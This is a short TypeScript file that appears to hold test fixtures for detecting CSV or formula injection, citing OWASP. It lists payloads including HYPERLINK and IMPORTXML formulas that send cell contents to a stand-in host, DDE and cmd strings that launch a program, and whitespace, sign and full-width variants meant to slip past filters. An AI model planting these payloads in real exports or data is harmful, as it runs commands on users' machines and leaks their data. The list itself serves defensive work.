// Texts that spreadsheets run or did run as formulas (OWASP, CSV injection), in every disguise we know of.
export const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://bad.example?x="&A1,"klick")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://bad.example/",A1),"//a")',
  '+1+cmd|" /C calc"!A0',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]
